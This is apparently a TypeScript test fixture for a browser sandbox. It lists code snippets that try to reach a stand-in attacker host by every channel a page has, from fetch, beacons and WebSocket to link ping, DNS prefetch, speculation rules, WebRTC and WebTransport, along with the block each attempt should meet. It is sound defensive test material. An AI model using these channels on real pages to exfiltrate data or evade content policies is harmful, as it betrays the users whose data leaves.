import { element, framedPage, type Attempt } from './attempt.ts';

const asked = (name: string, code: string): Attempt => ({ name, code, blocked: ['request', 'EVIL_HOST'] });

/** What a script connects to is stopped before it is a request, by the guest's own policy. */
const connected = (name: string, code: string): Attempt => ({
  name,
  code,
  blocked: ['policy connect-src', 'EVIL_HOST'],
});

/** Everything that a page, its workers and its markup can ask another host for. */
const requests: readonly Attempt[] = [
  connected('fetch', `await fetch(EVIL + '/fetch', { mode: 'no-cors' }).catch(() => 0);`),
  {
    ...connected('fetch by a redirect', `await fetch('/redirect', { mode: 'no-cors' }).catch(() => 0);`),
    blocked: ['policy connect-src', 'HERE_HOST'],
  },
  connected(
    'XMLHttpRequest',
    `await new Promise((resolve) => { const one = new XMLHttpRequest(); one.onloadend = resolve;
      one.open('GET', EVIL + '/xhr'); one.send(); });`,
  ),
  asked('picture', element('img', `{ src: EVIL + '/img' }`)),
  asked('script', element('script', `{ src: EVIL + '/script' }`)),
  asked('style', element('link', `{ rel: 'stylesheet', href: EVIL + '/style' }`)),
  asked('film', element('video', `{ src: EVIL + '/video' }`)),
  asked('prefetch', element('link', `{ rel: 'prefetch', href: EVIL + '/prefetch' }`)),
  asked('preload', element('link', `{ rel: 'preload', as: 'image', href: EVIL + '/preload' }`)),
  asked('module preload', element('link', `{ rel: 'modulepreload', href: EVIL + '/module' }`)),
  asked(
    'imported style',
    `document.head.append(Object.assign(document.createElement('style'),
      { textContent: '@import "' + EVIL + '/import";' }));`,
  ),
  asked('background picture', `document.body.style.background = 'url(' + EVIL + '/background)';`),
  asked('font', `await new FontFace('x', 'url(' + EVIL + '/font)').load().catch(() => 0);`),
  connected(
    'WebSocket',
    `await new Promise((resolve) => { const one = new WebSocket(EVIL.replace('https', 'wss'));
      one.onerror = one.onopen = resolve; });`,
  ),
  connected(
    'EventSource',
    `await new Promise((resolve) => { const one = new EventSource(EVIL + '/events');
      one.onerror = one.onopen = resolve; }).then(() => 0);`,
  ),
  connected('beacon', `navigator.sendBeacon(EVIL + '/beacon', 'x');`),
  connected(
    'ping of a link',
    `document.body.insertAdjacentHTML('beforeend', '<a id="bait" href="#x" ping="' + EVIL + '/ping">x</a>');
     document.querySelector('#bait').click(); history.replaceState({}, '', '/start');`,
  ),
  asked(
    'report of a broken policy',
    `const frame = document.createElement('iframe'); frame.src = '/reporting';
     await new Promise((resolve) => { frame.onload = resolve; document.body.append(frame); });`,
  ),
  asked(
    'worker',
    `await new Promise((resolve) => { const one = new Worker(URL.createObjectURL(new Blob([
      'try { importScripts("' + EVIL + '/worker") } catch {} postMessage(0)'])));
      one.onmessage = one.onerror = resolve; }).then(() => 0);`,
  ),
];

const byDatagram = `'stun:' + LAN, 'turn:' + LAN`;
const byConnection = `'turn:' + LAN + '?transport=tcp'`;

/** Has WebRTC of a window ask these servers on this machine, and says whether there is WebRTC at all. */
const rtc = (window: string, servers: string): string => `
  const Rtc = ${window}.RTCPeerConnection ?? ${window}.webkitRTCPeerConnection;
  if (Rtc !== undefined) {
    const urls = [${servers}];
    const one = new Rtc({ iceServers: [{ urls, username: 'x', credential: 'x' }] });
    one.createDataChannel('x');
    await one.setLocalDescription();
    await new Promise((resolve) => setTimeout(resolve, 600));
    one.close();
  }
  return typeof Rtc;`;

/** What no hook tells of: the server itself must see nothing. */
const connections: readonly Attempt[] = [
  {
    name: 'service worker',
    code: `await navigator.serviceWorker.register('/service-worker.js?' + encodeURIComponent(EVIL));
      await navigator.serviceWorker.ready;`,
    blocked: null,
  },
  { name: 'icon', code: element('link', `{ rel: 'icon', href: EVIL + '/icon' }`), blocked: null },
  { name: 'preconnect', code: element('link', `{ rel: 'preconnect', href: EVIL }`), blocked: null },
  { name: 'look-up of a name', code: element('link', `{ rel: 'dns-prefetch', href: EVIL }`), blocked: null },
  {
    name: 'speculation',
    code: `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules',
      textContent: JSON.stringify({ prerender: [{ source: 'list', urls: [EVIL + '/prerender'] }],
        prefetch: [{ source: 'list', urls: [EVIL + '/prefetch'] }] }) }));
      await new Promise((resolve) => setTimeout(resolve, 200));`,
    blocked: null,
  },
  {
    name: 'WebRTC',
    code: rtc('window', `${byDatagram}, ${byConnection}`),
    blocked: null,
    answer: 'undefined',
  },
  {
    name: 'WebRTC of an empty frame',
    code: `const frame = document.createElement('iframe'); document.body.append(frame);
      ${rtc('frame.contentWindow', `${byDatagram}, ${byConnection}`)}`,
    blocked: null,
    answer: 'undefined',
  },
  // Chromium runs nothing of ours in a frame before its own scripts: what holds here is the rule for datagrams.
  {
    name: 'datagrams of WebRTC of a frame',
    before: framedPage,
    code: rtc('framed', byDatagram),
    blocked: null,
  },
  {
    name: 'WebTransport',
    code: `try { const one = new WebTransport('https://' + LAN + '/transport');
      await Promise.race([one.ready, new Promise((resolve) => setTimeout(resolve, 400))]); } catch {}`,
    blocked: null,
  },
];

export { requests, connections };
